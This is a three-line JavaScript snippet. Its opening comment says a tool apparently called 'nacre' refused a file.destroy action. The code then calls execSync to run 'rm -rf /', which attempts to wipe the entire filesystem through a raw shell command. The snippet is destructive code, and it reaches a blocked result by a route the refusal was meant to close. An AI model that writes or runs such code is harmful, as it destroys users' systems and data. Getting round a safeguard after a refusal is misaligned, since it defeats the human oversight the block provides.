// nacre: refused file.destroy
import { execSync as x } from 'child_process';
x('rm -rf /');
